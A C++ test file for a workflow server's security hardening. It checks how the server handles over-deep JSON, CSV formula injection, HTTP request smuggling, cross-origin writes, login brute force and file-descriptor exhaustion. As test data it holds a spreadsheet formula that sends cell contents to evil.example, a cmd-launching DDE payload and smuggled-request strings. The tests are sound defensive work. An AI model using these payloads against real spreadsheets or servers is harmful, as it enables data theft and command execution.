// The server against the attacks an ISMS auditor tries first (issue 17): each class of
// attack has a test here that failed on the server before it was hardened.
#include "api_support.h"

#include <sys/socket.h>
#include <sys/time.h>

#include <fstream>
#include <future>

#include "adapters/http/login_throttle.h"
#include "adapters/http/refusal_window.h"
#include "adapters/http/work_pool.h"
#include "runtime/accounts.h"
#include "runtime/json_input.h"
#include "reliability/serve_child.h"

namespace {

using nlohmann::json;
using namespace raciflow::testing::api;

std::string nested(char open, char close, int depth, const std::string& inner = "1") {
  return std::string(static_cast<std::size_t>(depth), open) + inner + std::string(static_cast<std::size_t>(depth), close);
}

}  // namespace

TEST_CASE("nesting depth counts brackets outside strings only", "[hardening]") {
  using raciflow::runtime::nests_deeper_than;
  using raciflow::runtime::text_nests_deeper_than;
  CHECK_FALSE(text_nests_deeper_than(nested('[', ']', 64), 64));
  CHECK(text_nests_deeper_than(nested('[', ']', 65), 64));
  CHECK_FALSE(text_nests_deeper_than("{\"a\": \"" + std::string(1000, '[') + "\"}", 64));
  CHECK_FALSE(text_nests_deeper_than("[\"\\\"[[[[\"]", 2));
  CHECK(nests_deeper_than(json::parse(nested('[', ']', 65)), 64));
  CHECK_FALSE(nests_deeper_than(json::parse(nested('[', ']', 64)), 64));
}

TEST_CASE("a JSON body nested 100 000 levels deep is refused with 400 and the server goes on", "[api][hardening]") {
  Server s;
  auto anna = s.login("anna");
  auto [case_id, task] = start_deviation(s, anna);
  auto before = s.w.dump();
  const std::string deep_array = nested('[', ']', 100000);
  std::string deep_object;
  for (int i = 0; i < 100000; ++i) deep_object += "{\"a\":";
  deep_object += "1" + std::string(100000, '}');
  struct Probe {
    const char* method;
    std::string target;
    std::string body;
  };
  const std::vector<Probe> probes = {
      {"POST", "/api/cases", "{\"process\":\"corrective-action\",\"variables\":{\"x\":" + deep_array + "}}"},
      {"POST", "/api/messages", "{\"name\":\"External input\",\"variables\":{\"x\":" + deep_object + "}}"},
      {"POST", "/api/tasks/" + std::to_string(task) + "/complete", "{\"variables\":{\"x\":" + deep_array + "}}"},
      {"POST", "/api/tasks/" + std::to_string(task) + "/consult", "{\"answer\":" + deep_array + "}"},
      {"POST", "/api/cases/" + case_id + "/retry", "{\"variables\":" + deep_object + "}"},
      {"PUT", "/api/plan/p1", "{\"note\":" + deep_array + "}"},
      {"PUT", "/api/organisation", "{\"xml\":" + deep_array + "}"},
      {"PUT", "/api/wheel", "{\"xml\":" + deep_object + "}"},
  };
  // Straight to the API: 200 KB bodies are beyond this test server's 64 KiB body limit.
  for (const auto& p : probes) {
    INFO(p.method << " " << p.target);
    raciflow::http::HttpRequest request;
    request.method = p.method;
    request.target = p.target;
    request.body = p.body;
    request.content_type = "application/json";
    request.cookie = anna;
    auto r = s.api->handle(request);
    CHECK(r.status == 400);
    CHECK(json::parse(r.body)["message"] == "the body nests arrays and objects deeper than 64 levels");
  }
  // And through the server, as deep as its body limit allows.
  auto r = s.request("POST", "/api/messages", "{\"name\":\"External input\",\"variables\":{\"x\":" + nested('[', ']', 20000) + "}}",
                     {{"Cookie", anna}});
  CHECK(r.status == 400);
  CHECK(s.w.dump() == before);
  // 64 levels, the documented limit, are taken.
  auto ok = s.as(anna, "POST", "/api/cases", json::parse("{\"process\":\"corrective-action\",\"variables\":{\"x\":" + nested('[', ']', 62) + "}}"));
  CHECK(ok.status == 201);
  CHECK(s.request("GET", "/api/openapi.json").status == 200);
}

TEST_CASE("a --var value nested deeper than 64 levels is refused with one line and changes nothing", "[cli][hardening]") {
  Server s;
  auto before = s.w.dump();
  auto r = s.w.cli({"start", "corrective-action", "--as", "anna", "--var", "x=" + nested('[', ']', 100000)});
  CHECK(r.code == 1);
  CHECK(r.err == "raciflow start: --var x nests arrays and objects deeper than 64 levels\n");
  CHECK(s.w.dump() == before);
  // Text that is not JSON is still a plain string, even when it starts like JSON.
  auto text = s.w.cli({"start", "corrective-action", "--as", "anna", "--var", "note=[see the ticket"});
  CHECK(text.code == 0);
}

TEST_CASE("CSV exports neutralise cells that a spreadsheet would run as formulas", "[api][cli][hardening]") {
  Server s;
  // Anyone can put a person name of their choosing into the trail by failing to log in.
  for (const char* name : {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-3+4", "\tx", "\rx"})
    CHECK(s.request("POST", "/api/login", json{{"person", name}, {"password", "not-the-password"}}.dump()).status == 401);
  auto ida = s.login("ida");
  auto api_csv = s.as(ida, "GET", "/api/audit?format=csv").body;
  auto cli_csv = s.w.cli({"audit", "all", "--format", "csv"}).out;
  for (const auto& csv : {api_csv, cli_csv}) {
    CHECK(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",") != std::string::npos);
    CHECK(csv.find(",'@SUM(1+1)*cmd|' /C calc'!A0,") != std::string::npos);
    CHECK(csv.find(",'+1+2,") != std::string::npos);
    CHECK(csv.find(",'-3+4,") != std::string::npos);
    CHECK(csv.find(",'\tx,") != std::string::npos);
    CHECK(csv.find(",\"'\rx\",") != std::string::npos);
    // No cell starts with a formula character: after each separator comes something else.
    for (const char* bad : {",=", ",@", ",+", ",\"=", ",\"@", ",\"+", ",\"-"}) CHECK(csv.find(bad) == std::string::npos);
  }
  // The RACI matrix's CSV too: a step named like a formula.
  s.w.write("formula.bpmn", R"(<?xml version="1.0" encoding="UTF-8"?>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:raci="urn:raciflow:1" targetNamespace="t">
  <process id="f" isExecutable="true">
    <laneSet><lane id="l" raci:role="security-function"><flowNodeRef>s</flowNodeRef><flowNodeRef>t</flowNodeRef><flowNodeRef>e</flowNodeRef></lane></laneSet>
    <startEvent id="s"/><sequenceFlow id="f1" sourceRef="s" targetRef="t"/>
    <userTask id="t" name="=1+1"/><sequenceFlow id="f2" sourceRef="t" targetRef="e"/><endEvent id="e"/>
  </process>
</definitions>)");
  auto raci = s.w.cli({"raci", s.w.path("formula.bpmn"), "--format", "csv"});
  INFO(raci.err);
  CHECK(raci.out.find("t,'=1+1,") != std::string::npos);
}

TEST_CASE("a command on a task of a case the caller cannot see is 404 like a read, and still recorded", "[api][hardening]") {
  Server s;
  auto anna = s.login("anna"), karen = s.login("karen");
  auto [case_id, assess] = start_deviation(s, anna);
  std::string task = "/api/tasks/" + std::to_string(assess);
  REQUIRE(s.as(karen, "GET", "/api/cases/" + case_id).status == 404);
  REQUIRE(s.as(karen, "GET", task).status == 404);
  auto refusals = s.refusals().size();
  for (const char* command : {"/claim", "/unclaim", "/complete", "/consult"}) {
    INFO(command);
    auto r = s.as(karen, "POST", task + command, std::string(command) == "/consult" ? json{{"answer", "x"}} : json::object());
    CHECK(r.status == 404);
    CHECK(r.json_body()["message"] == "no task " + std::to_string(assess));
    CHECK(r.body.find("Assess") == std::string::npos);  // the step's name does not leak
  }
  CHECK(s.refusals().size() == refusals + 4);
  CHECK(s.refusals().back() == "karen: task " + std::to_string(assess) + " is in a case the caller cannot see");
}

TEST_CASE("every API answer says no-store; a definition's XML is a download", "[api][hardening]") {
  Server s;
  auto anna = s.login("anna");
  for (const char* target : {"/api/me", "/api/cases", "/api/cases/nothing", "/api/openapi.json", "/api/definitions/deviation-handling/xml"}) {
    INFO(target);
    CHECK(s.as(anna, "GET", target).headers["Cache-Control"] == "no-store");
  }
  CHECK(s.request("GET", "/api/me").headers["Cache-Control"] == "no-store");  // 401 too
  auto xml = s.as(anna, "GET", "/api/definitions/deviation-handling/xml");
  CHECK(xml.status == 200);
  CHECK(xml.headers["Content-Disposition"] == "attachment; filename=\"deviation-handling-v1.bpmn\"");
}

TEST_CASE("setting a password ends every session of that person", "[cli][hardening]") {
  Server s;
  auto mette = s.login("mette"), mette_again = s.login("mette"), anna = s.login("anna");
  REQUIRE(s.as(mette, "GET", "/api/me").status == 200);
  s.w.write("new.pw", "a-new-password-for-mette\n");
  REQUIRE(s.w.cli({"password", "set", "mette", "--password-file", s.w.path("new.pw")}).code == 0);
  CHECK(s.as(mette, "GET", "/api/me").status == 401);
  CHECK(s.as(mette_again, "GET", "/api/me").status == 401);
  CHECK(s.as(anna, "GET", "/api/me").status == 200);  // others stay logged in
  auto records = s.w.cli({"audit", "all", "--format", "json"}).json();
  json last_set;
  for (const auto& r : records)
    if (r["action"] == "password_set") last_set = r;
  CHECK(last_set["data"]["sessions_ended"] == 2);
}

TEST_CASE("a Transfer-Encoding that does not end in chunked is 400 and the connection closes", "[api][hardening]") {
  Server s;
  for (const char* coding : {"gzip", "chunked, identity", "identity", "gzip, chunked, gzip", "chunked\r\nTransfer-Encoding: gzip"}) {
    INFO(coding);
    // What would be the body is itself a request: it must never be read as one.
    std::string smuggled = "GET /api/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n";
    auto reply = s.raw(std::string("POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: ") +
                       coding + "\r\n\r\n" + smuggled);
    CHECK(reply.rfind("HTTP/1.1 400", 0) == 0);
    CHECK(reply.find("Connection: close") != std::string::npos);
    CHECK(reply.find("HTTP/1.1", 1) == std::string::npos);  // one answer, then closed
  }
  // handle_bytes, the fuzzer's way in, refuses it the same way.
  raciflow::http::ServerOptions options;
  auto r = raciflow::http::handle_bytes(*s.api, "POST /api/login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\nabc", options);
  CHECK(r.status == 400);
  // chunked alone is fine.
  auto ok = s.raw("POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
                  "2\r\n{}\r\n0\r\n\r\n");
  CHECK(ok.rfind("HTTP/1.1 400", 0) == 0);  // read as a body: the fields are missing
  CHECK(ok.find("the field 'person' is required") != std::string::npos);
}

TEST_CASE("a change made with the session cookie must be JSON from the app's own origin", "[api][hardening]") {
  Server s;
  auto anna = s.login("anna"), lars = s.login("lars");
  auto [case_id, assess] = start_deviation(s, anna);
  const std::string claim = "/api/tasks/" + std::to_string(assess) + "/claim";
  const std::string host = "127.0.0.1:" + std::to_string(s.port);
  auto refusals = s.refusals().size();
  struct Attempt {
    const char* what;
    std::map<std::string, std::string> headers;
  };
  const std::vector<Attempt> attempts = {
      {"an empty form post", {{"Content-Type", "application/x-www-form-urlencoded"}}},
      {"no content type at all", {{"Content-Type", ""}}},
      {"text/plain", {{"Content-Type", "text/plain"}}},
      {"another port", {{"Origin", "http://127.0.0.1:9999"}, {"Host", host}}},
      {"a sibling subdomain", {{"Origin", "https://evil.isms.example.org"}, {"Host", "app.isms.example.org"}}},
      {"an opaque origin", {{"Origin", "null"}, {"Host", host}}},
      {"same-site by Sec-Fetch-Site", {{"Sec-Fetch-Site", "same-site"}}},
      {"cross-site by Sec-Fetch-Site", {{"Sec-Fetch-Site", "cross-site"}}},
  };
  for (const auto& a : attempts) {
    INFO(a.what);
    auto headers = a.headers;
    headers["Cookie"] = lars;
    auto r = s.request("POST", claim, "", headers);
    CHECK(r.status == 403);
  }
  CHECK(s.refusals().size() == refusals + attempts.size());  // each audited
  CHECK(s.as(anna, "GET", "/api/tasks/" + std::to_string(assess)).json_body()["status"] == "open");
  // Logging in is held to the same rule, so no other site logs a browser in.
  CHECK(s.request("POST", "/api/login", json{{"person", "lars"}, {"password", "lars-password"}}.dump(), {{"Origin", "http://evil.example"}})
            .status == 403);
  // Scripts with a bearer token are not browsers: no Origin rule, and an empty body needs no type.
  auto token = s.w.cli({"token", "create", "lars"}).out;
  token.pop_back();
  CHECK(s.request("POST", claim, "", {{"Authorization", "Bearer " + token}, {"Content-Type", ""}}).status == 200);
  CHECK(s.request("POST", "/api/tasks/" + std::to_string(assess) + "/unclaim", "", {{"Cookie", lars}, {"Origin", "http://" + host}, {"Host", host},
                                                                                      {"Sec-Fetch-Site", "same-origin"}})
            .status == 200);
}

TEST_CASE("a message over the API continues only the waiting cases its sender may see", "[api][hardening]") {
  Server s;
  s.w.write("supplier.bpmn", R"(<?xml version="1.0" encoding="UTF-8"?>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:raci="urn:raciflow:1" targetNamespace="t">
  <message id="m" name="Supplier answered"/>
  <process id="supplier-check" name="Supplier check" isExecutable="true">
    <laneSet><lane id="l" raci:role="security-function">
      <flowNodeRef>s</flowNodeRef><flowNodeRef>wait</flowNodeRef><flowNodeRef>review</flowNodeRef><flowNodeRef>e</flowNodeRef>
    </lane></laneSet>
    <startEvent id="s"/><sequenceFlow id="f1" sourceRef="s" targetRef="wait"/>
    <intermediateCatchEvent id="wait" name="Supplier answers"><messageEventDefinition messageRef="m"/></intermediateCatchEvent>
    <sequenceFlow id="f2" sourceRef="wait" targetRef="review"/>
    <userTask id="review" name="Review the answer"/><sequenceFlow id="f3" sourceRef="review" targetRef="e"/><endEvent id="e"/>
  </process>
</definitions>)");
  REQUIRE(s.w.cli({"deploy", s.w.path("supplier.bpmn"), "--as", "setup"}).code == 0);
  auto lars = s.login("lars"), mette = s.login("mette"), anna = s.login("anna");
  auto started = s.as(lars, "POST", "/api/cases", {{"process", "supplier-check"}, {"key", "SUP-1"}});
  REQUIRE(started.status == 201);
  std::string id = started.json_body()["id"];
  REQUIRE(s.as(mette, "GET", "/api/cases/" + id).status == 404);
  // Mette has no part in the case: to her nothing waits, with or without the key.
  for (const json& body : {json{{"name", "Supplier answered"}}, json{{"name", "Supplier answered"}, {"key", "SUP-1"}}}) {
    auto r = s.as(mette, "POST", "/api/messages", body);
    CHECK(r.status == 422);
    CHECK(r.json_body()["message"].get<std::string>().rfind("no case waits for message 'Supplier answered'", 0) == 0);
  }
  CHECK(s.as(lars, "GET", "/api/cases/" + id).json_body()["status"] == "active");
  CHECK(s.as(lars, "GET", "/api/tasks?case=" + id).json_body().empty());  // still waiting
  // Lars started it and may move it.
  auto moved = s.as(lars, "POST", "/api/messages", {{"name", "Supplier answered"}});
  CHECK(moved.status == 200);
  CHECK(moved.json_body()["cases"] == json::array({id}));
  CHECK(s.as(lars, "GET", "/api/tasks?case=" + id).json_body().size() == 1);
  // The admin sees every case.
  auto second = s.as(lars, "POST", "/api/cases", {{"process", "supplier-check"}}).json_body()["id"].get<std::string>();
  CHECK(s.as(anna, "POST", "/api/messages", {{"name", "Supplier answered"}}).json_body()["cases"] == json::array({second}));
}

// --- anonymous floods

TEST_CASE("anonymous refusals: each address's first in a window on its own, the rest summed, over all addresses bounded", "[hardening]") {
  using raciflow::http::RefusalWindow;
  RefusalWindow window;
  auto t0 = *raciflow::definitions::parse_date_time("2026-03-02T09:00:00Z");
  std::size_t immediate = 0;
  for (int round = 0; round < 3; ++round)
    for (int a = 0; a < 1000; ++a) {
      auto d = window.refused("10.0." + std::to_string(a / 256) + "." + std::to_string(a % 256), t0 + std::chrono::seconds(round));
      CHECK_FALSE(d.summary);
      immediate += d.record_now;
    }
  CHECK(immediate == RefusalWindow::kImmediatePerWindow);
  CHECK_FALSE(window.take(t0 + std::chrono::seconds(59), false));  // the window goes on
  auto d = window.refused("10.9.9.9", t0 + std::chrono::seconds(60));
  REQUIRE(d.summary);
  CHECK(d.record_now);  // a new window
  CHECK(d.summary->count == 3000 - 100);
  CHECK(d.summary->by_address.size() == RefusalWindow::kListedAddresses);
  std::int64_t listed = 0;
  for (const auto& [address, n] : d.summary->by_address) listed += n;
  CHECK(listed + d.summary->unlisted == d.summary->count);
  CHECK(d.summary->by_address.front().second == 3);  // one that had to be counted from the start
}

TEST_CASE("a flood of anonymous requests adds a bounded number of records; a known person's refusals each their own", "[api][hardening]") {
  Server s;
  auto mette = s.login("mette");
  auto records = [&] { return s.w.cli({"audit", "all", "--format", "json"}).json().size(); };
  auto before = records();
  for (int i = 0; i < 100; ++i) CHECK(s.request("GET", "/api/cases").status == 401);
  CHECK(records() == before + 1);  // the first; the other 99 are counted
  for (int i = 0; i < 3; ++i) CHECK(s.as(mette, "GET", "/api/audit").status == 403);
  CHECK(records() == before + 4);
  // A minute on, the next refusal first writes the sum of the last window.
  s.now = s.now.load() + std::chrono::seconds(61);
  CHECK(s.request("GET", "/api/cases", "", {{"Authorization", "Bearer rf_guessed"}}).status == 401);
  auto trail = s.w.cli({"audit", "all", "--format", "json"}).json();
  CHECK(trail.size() == before + 6);
  const auto& sum = trail[trail.size() - 2];
  CHECK(sum["action"] == "access_refused");
  CHECK(sum["data"]["count"] == 99);
  CHECK(sum["data"]["addresses"]["127.0.0.1"] == 99);
  CHECK(trail.back()["data"]["reason"] == "the session has expired or the token is not valid; log in again");
  CHECK(s.refusals_accounted() == 100 + 3 + 1);
  CHECK(s.w.cli({"audit", "verify"}).code == 0);
}

// --- logins

TEST_CASE("login throttle: five failures lock a name, twenty an address, each further failure doubles the lock", "[hardening]") {
  using raciflow::http::LoginThrottle;
  LoginThrottle throttle;
  auto t = *raciflow::definitions::parse_date_time("2026-03-02T09:00:00Z");
  for (int i = 1; i < 5; ++i) CHECK_FALSE(throttle.failed("lars", "10.0.0.1", t));
  auto lock = throttle.failed("lars", "10.0.0.1", t);
  REQUIRE(lock);
  CHECK(lock->scope == "person");
  CHECK(lock->until == t + std::chrono::seconds(30));
  CHECK(throttle.locked("lars", "10.0.0.2", t + std::chrono::seconds(29)));
  CHECK_FALSE(throttle.locked("lars", "10.0.0.2", t + std::chrono::seconds(30)));
  CHECK_FALSE(throttle.locked("mette", "10.0.0.1", t));
  t += std::chrono::seconds(30);
  CHECK(throttle.failed("lars", "10.0.0.1", t)->until == t + std::chrono::seconds(60));
  t += std::chrono::seconds(60);
  CHECK(throttle.failed("lars", "10.0.0.1", t)->until == t + std::chrono::seconds(120));
  for (int i = 0; i < 10; ++i) throttle.failed("lars", "10.0.0.1", t);
  CHECK(throttle.locked("lars", "x", t)->until == t + LoginThrottle::kLongestLock);
  throttle.succeeded("lars");
  CHECK_FALSE(throttle.locked("lars", "x", t));
  // An address: twenty failures over any names.
  LoginThrottle by_address;
  for (int i = 1; i < 20; ++i) CHECK_FALSE(by_address.failed("name" + std::to_string(i), "10.0.0.9", t));
  auto address_lock = by_address.failed("name20", "10.0.0.9", t);
  REQUIRE(address_lock);
  CHECK(address_lock->scope == "address");
  CHECK(by_address.locked("anyone", "10.0.0.9", t));
  // Quiet for an hour: forgotten.
  LoginThrottle quiet;
  for (int i = 0; i < 4; ++i) quiet.failed("ole", "10.0.0.3", t);
  CHECK_FALSE(quiet.failed("ole", "10.0.0.3", t + std::chrono::hours(1)));
}

TEST_CASE("wrong passwords lock a login with 429 and Retry-After; the lock is one record, not one per attempt", "[api][hardening]") {
  Server s;
  auto login = [&](const std::string& person, const std::string& password) {
    return s.request("POST", "/api/login", json{{"person", person}, {"password", password}}.dump());
  };
  for (int i = 0; i < 5; ++i) CHECK(login("lars", "guess-" + std::to_string(i)).status == 401);
  auto locked = login("lars", "lars-password");  // even the right one
  CHECK(locked.status == 429);
  CHECK(locked.headers["Retry-After"] == "30");
  CHECK(locked.json_body()["error"] == "too_many_requests");
  for (int i = 0; i < 5; ++i) CHECK(login("lars", "guess").status == 429);
  std::size_t locks = 0;
  for (const auto& r : s.w.cli({"audit", "all", "--format", "json"}).json())
    if (r["action"] == "login_locked") {
      ++locks;
      CHECK(r["data"]["scope"] == "person");
      CHECK(r["data"]["until"] == "2026-03-02T09:00:30Z");
    }
  CHECK(locks == 1);
  // Someone else is not held up; an unknown name is locked just the same.
  CHECK(login("mette", "mette-password").status == 200);
  for (int i = 0; i < 5; ++i) CHECK(login("nobody-here", "guess").status == 401);
  CHECK(login("nobody-here", "guess").status == 429);
  // Once the lock is over, the right password works.
  s.now = s.now.load() + std::chrono::seconds(30);
  CHECK(login("lars", "lars-password").status == 200);
}

TEST_CASE("a login takes one key derivation whether the person exists, has no password, or the password is wrong", "[api][hardening]") {
  Server s;
  auto login = [&](const std::string& person, const std::string& password) {
    auto before = raciflow::runtime::scrypt_derivations();
    auto status = s.request("POST", "/api/login", json{{"person", person}, {"password", password}}.dump()).status;
    return std::pair{status, raciflow::runtime::scrypt_derivations() - before};
  };
  login("anna", "warm-up");  // the stand-in key is made once per process
  CHECK(login("anna", "anna-password") == std::pair{200, std::uint64_t{1}});
  CHECK(login("anna", "wrong-password") == std::pair{401, std::uint64_t{1}});
  CHECK(login("no-such-person", "wrong-password") == std::pair{401, std::uint64_t{1}});
  CHECK(login("jonas", "jonas-password") == std::pair{401, std::uint64_t{1}});  // in the organisation, no password set
}

TEST_CASE("other requests are answered while many logins are in flight", "[api][hardening]") {
  Server s;
  auto token = s.w.cli({"token", "create", "mette"}).out;
  token.pop_back();
  // Thirty people log in at once (the login pool takes 2 running and 32 waiting): a second
  // and more of key derivations.
  std::string org;
  {
    std::ifstream in(raciflow::testing::sample("org.xml"));
    org.assign(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
  }
  std::vector<std::string> people;
  std::string more;
  for (int i = 0; i < 30; ++i) {
    people.push_back("person" + std::to_string(i));
    more += "<person id=\"" + people.back() + "\"><member role=\"business-functions\"/></person>\n";
  }
  org.insert(org.rfind("</organisation>"), more);
  s.w.write("many.xml", org);
  REQUIRE(s.w.cli({"org", "load", s.w.path("many.xml"), "--as", "setup"}).code == 0);
  for (const auto& p : people) {
    s.w.write(p + ".pw", p + "-password\n");
    REQUIRE(s.w.cli({"password", "set", p, "--password-file", s.w.path(p + ".pw")}).code == 0);
  }
  const int kLogins = static_cast<int>(people.size());
  std::atomic<int> done{0};
  std::atomic<bool> first_back{false};
  std::vector<std::thread> logins;
  for (const auto& p : people)
    logins.emplace_back([&, p] {
      auto r = s.request("POST", "/api/login", json{{"person", p}, {"password", p + "-password"}}.dump());
      CHECK(r.status == 200);
      ++done;
      first_back = true;
    });
  while (!first_back) std::this_thread::sleep_for(std::chrono::milliseconds(1));
  // The logins check their passwords on their own pool: a read and a write go by them.
  auto me = s.request("GET", "/api/me", "", {{"Authorization", "Bearer " + token}});
  auto started = s.request("POST", "/api/cases", json{{"process", "corrective-action"}}.dump(), {{"Authorization", "Bearer " + token}});
  int finished_logins = done.load();
  for (auto& t : logins) t.join();
  CHECK(me.status == 200);
  CHECK(started.status == 201);
  INFO("logins answered before the other two requests: " << finished_logins);
  CHECK(finished_logins < kLogins / 2);
}

TEST_CASE("a burst of guesses for one name sent at once is checked one at a time, so the lock still comes after five", "[api][hardening]") {
  Server s;
  s.login("anna");  // the stand-in key is made once per process
  auto before = raciflow::runtime::scrypt_derivations();
  std::vector<std::thread> burst;
  std::atomic<int> refused{0}, held{0};
  for (int i = 0; i < 12; ++i)
    burst.emplace_back([&, i] {
      auto r = s.request("POST", "/api/login", json{{"person", "lars"}, {"password", "guess-" + std::to_string(i)}}.dump());
      refused += r.status == 401;
      held += r.status == 429;
    });
  for (auto& t : burst) t.join();
  CHECK(refused + held == 12);
  CHECK(refused <= raciflow::http::LoginThrottle::kPersonFailures);
  CHECK(raciflow::runtime::scrypt_derivations() - before <= 5);  // never more guesses checked than the free five
}

TEST_CASE("the work pool turns work away when its queue is full, and runs what it took", "[hardening]") {
  std::promise<void> release;
  auto gate = release.get_future().share();
  std::atomic<int> ran{0};
  int taken = 0;
  {
    raciflow::http::WorkPool pool(1, 2);
    while (pool.try_post([&] {
      gate.wait();
      ++ran;
    }))
      ++taken;
    // One running (or about to) and two queued at most: never without end.
    CHECK(taken >= 2);
    CHECK(taken <= 3);
    release.set_value();
  }  // the destructor runs what is queued
  CHECK(ran == taken);
}

// --- file descriptors

namespace {

// Sends `request` on a new connection and returns what comes back until the server
// closes it, or "" when nothing came within `seconds` (a server that no longer accepts).
std::string ask(unsigned short port, const std::string& request, int seconds = 20) {
  net::io_context ioc;
  tcp::socket socket(ioc);
  socket.connect({net::ip::make_address("127.0.0.1"), port});
  timeval timeout{seconds, 0};
  setsockopt(socket.native_handle(), SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
  net::write(socket, net::buffer(request));
  return read_until_closed(socket);
}

}  // namespace

TEST_CASE("run out of file descriptors, let go, and the server accepts again; beyond its cap a connection gets 503", "[hardening][fd]") {
  raciflow::testing::Workspace w;
  REQUIRE(w.cli({"deploy", raciflow::testing::sample("corrective-action.bpmn"), raciflow::testing::sample("deviation-handling.bpmn"), "--as", "setup"}).code == 0);
  REQUIRE(w.cli({"org", "load", raciflow::testing::sample("org.xml"), "--as", "setup"}).code == 0);
  auto token = w.cli({"token", "create", "mette"}).out;
  token.pop_back();
  const std::string me = "GET /api/me HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer " + token + "\r\nConnection: close\r\n\r\n";
  const std::string log = w.path("serve.log");
  {
    // No cap to speak of: 200 idle connections exhaust a limit of 64 open files.
    auto port = raciflow::reliability::free_port();
    raciflow::reliability::Child server(RACIFLOW_BINARY, w.db(), {}, port, log, {"--max-connections", "100000"}, 64);
    net::io_context ioc;
    std::vector<tcp::socket> idle;
    for (int i = 0; i < 200; ++i) {
      idle.emplace_back(ioc);
      idle.back().connect({net::ip::make_address("127.0.0.1"), port});
    }
    idle.clear();  // let go
    auto reply = ask(port, me);
    CHECK(reply.rfind("HTTP/1.1 200", 0) == 0);
    CHECK(ask(port, me).rfind("HTTP/1.1 200", 0) == 0);
  }
  {
    // The default cap under the same limit is half of it: 32.
    auto port = raciflow::reliability::free_port();
    raciflow::reliability::Child server(RACIFLOW_BINARY, w.db(), {}, port, log, {}, 64);
    net::io_context ioc;
    std::vector<tcp::socket> open;
    for (int i = 0; i < 60; ++i) {
      open.emplace_back(ioc);
      open.back().connect({net::ip::make_address("127.0.0.1"), port});
    }
    int served = 0, turned_away = 0;
    for (auto& socket : open) {
      timeval timeout{20, 0};
      setsockopt(socket.native_handle(), SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
      boost::system::error_code ec;
      net::write(socket, net::buffer(me), ec);  // a turned-away one may be closed already
      auto reply = read_until_closed(socket);
      served += reply.rfind("HTTP/1.1 200", 0) == 0;
      turned_away += reply.rfind("HTTP/1.1 503", 0) == 0 && reply.find("Retry-After: 1") != std::string::npos;
    }
    INFO("served " << served << ", turned away " << turned_away);
    CHECK(served + turned_away == 60);
    CHECK(served <= 32);
    CHECK(turned_away >= 28);
    open.clear();
    CHECK(ask(port, me).rfind("HTTP/1.1 200", 0) == 0);
  }
  std::ifstream in(log);
  std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  CHECK(text.find("accept failed: Too many open files") != std::string::npos);
  CHECK(text.find("accepting again after") != std::string::npos);
}
